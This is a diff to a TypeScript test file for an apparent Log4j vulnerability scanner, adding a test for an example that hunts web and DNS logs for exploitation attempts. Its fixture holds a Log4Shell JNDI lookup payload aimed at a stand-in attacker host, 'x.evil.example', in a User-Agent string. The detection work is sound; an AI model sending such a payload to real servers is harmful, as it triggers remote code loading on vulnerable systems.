@@ -24,14 +24,31 @@ const examples = [...readFileSync('docs/library.md', 'utf8').matchAll(/^```js\n(
 )
 
 /** Runs a program beside the installed package, as one that depends on it. */
-async function runProgram(code: string, ...args: readonly string[]): Promise<string> {
+async function runProgram(code: string, args: readonly string[] = [], input = ''): Promise<string> {
   const path = join(programs, `${Math.abs(code.length)}.mjs`)
   writeFileSync(path, code)
-  return (await run(process.execPath, [path, ...args], { cwd: folder })).stdout
+  const running = run(process.execPath, [path, ...args], { cwd: folder })
+  running.child.stdin?.end(input)
+  return (await running).stdout
 }
 
-test('the examples are two: one that scans, one that judges what it was sent', () => {
-  expect(examples.map((code) => /openvex/.test(code))).toEqual([false, true])
+test('the examples are three: one that scans, one that judges what it was sent, one that hunts', () => {
+  expect(examples.map((code) => /openvex|hunt/.exec(code)?.[0])).toEqual([undefined, 'openvex', 'hunt'])
+})
+
+test.each([
+  ['files', ['access.log', 'named.log'], ''],
+  ['a stream', ['-'], 'streamed'],
+])('the third says what came of attacks, in %s', async (_what, paths, input) => {
+  const attack =
+    '203.0.113.9 - - [10/Dec/2021:12:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap://x.evil.example/a}"\n'
+  const query =
+    '10-Dec-2021 12:00:01.416 queries: info: client @0x7f2a40 10.0.0.5#53211 (x.evil.example): query: x.evil.example IN A + (10.0.0.53)\n'
+  writeFileSync(join(folder, 'access.log'), attack)
+  writeFileSync(join(folder, 'named.log'), query)
+  const said = await runProgram(examples[2] ?? '', paths, input === '' ? '' : attack + query)
+
+  expect(said).toBe(`${paths[0]}:1: jndi:ldap://x.evil.example/a from 203.0.113.9: likely\n`)
 })
 
 test('a list of parts that was sent is told in a format', async () => {
@@ -54,7 +71,7 @@ describeWithLab('with a real jar', () => {
   })
 
   test('the first example finds it, and says what it could not examine', async () => {
-    const lines = (await runProgram(examples[0] ?? '', 'srv')).trimEnd().split('\n')
+    const lines = (await runProgram(examples[0] ?? '', ['srv'])).trimEnd().split('\n')
 
     expect(lines).toHaveLength(42)
     expect(lines.find((line) => line.includes('shop.war'))).toMatch(
@@ -78,7 +95,7 @@ describeWithLab('with a real jar', () => {
       for await (const _ of scan({})) console.log('never')
       for await (const _ of scan({ paths: ['srv'] }, { signal: AbortSignal.abort() })) console.log('never')
     `,
-      'x',
+      ['x'],
     )
 
     expect(said).toMatch(/^first \w+\nstopped true\ntrue SCAN_NOTHING_THERE true\n$/)
